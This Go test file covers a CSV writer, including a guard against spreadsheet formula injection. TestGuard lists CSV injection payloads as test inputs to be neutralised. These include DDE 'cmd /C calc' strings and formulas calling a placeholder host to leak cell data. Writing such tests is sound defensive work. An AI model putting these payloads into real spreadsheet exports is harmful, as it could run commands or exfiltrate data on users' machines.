package csv

import (
	"errors"
	"strings"
	"testing"
)

func TestRow(t *testing.T) {
	for _, c := range []struct {
		f    Format
		row  []string
		want string
	}{
		{Format{}, []string{"a", "", "b"}, "a;;b\n"},
		{Format{}, []string{""}, "\"\"\n"},
		{Format{}, []string{"x;y", `"`, "l1\nl2", "\r", "a,b", " c "}, "\"x;y\";\"\"\"\";\"l1\nl2\";\"\r\";a,b; c \n"},
		{Format{Comma: ',', CRLF: true}, []string{"x;y", "a,b"}, "x;y,\"a,b\"\r\n"},
		{Format{}, []string{"=1+1", "-5"}, "=1+1;-5\n"},
		{Format{Guard: true}, []string{"-5", "-5,25", "-0.5", "12", "I21.9", "Åse", ""}, "-5;\"-5,25\";-0.5;12;I21.9;Åse;\n"},
		{Format{Guard: true}, []string{"a,b", "a\tb", "a;b"}, "\"a,b\";\"a\tb\";\"a;b\"\n"},
	} {
		if got := string(write([][]string{c.row}, c.f)); got != c.want {
			t.Errorf("%+v %q: %q, want %q", c.f, c.row, got, c.want)
		}
	}
}

// Texts that spreadsheets have been seen to run, or that only differ from them in width.
func TestGuard(t *testing.T) {
	for _, s := range []string{
		"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\";\"y\")", "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")",
		"=DDE(\"cmd\";\"/C calc\";\"x\")", "==1", "=", "= 1", "=\t1", "=@SUM(1)", "=-1", "=+1", "='x'!A1", "=RTD(\"x\";;\"y\")", "=CALL(\"k\",\"W\")",
		"+1", "+1+1", "+cmd|' /C calc'!A0", "+4722334455", "+", "+SUM(1)", "+@A1",
		"-1+1", "-cmd|' /C calc'!A0", "-", "--1", "-a", "-1e5", "-1,2,3", "-1.2.3", "-.5", "-5,", "-2+3+cmd|' /C calc'!D2", "-1 ",
		"@SUM(1)", "@", "@cmd", "\t=1", "\t", "\r=1", "\r", "\n=1", "\n", "＝1+1", "＋1", "－1", "＠SUM(1)",
	} {
		out := string(write([][]string{{s, "x"}}, Format{Guard: true}))
		if !strings.HasPrefix(strings.TrimPrefix(out, `"`), "'") {
			t.Errorf("%q is written as %q", s, out)
		}
	}
	for _, s := range []string{"-5", "-5,5", "-12345.678", "5", "a=b", "a-b", "'x", " =1"} {
		if isFormula(s) {
			t.Errorf("%q is taken for a formula", s)
		}
	}
}

type failing struct{ calls int }

func (f *failing) Write([]byte) (int, error) { f.calls++; return 0, errors.New("disk full") }

func TestWriteError(t *testing.T) {
	f := &failing{}
	w := NewWriter(f, Format{})
	if err := w.Row(strings.Repeat("x", writeAt)); err == nil {
		t.Error("no error from Row")
	}
	if w.Row("a") == nil || w.Flush() == nil || f.calls != 1 {
		t.Error("the error did not stay", f.calls)
	}
}
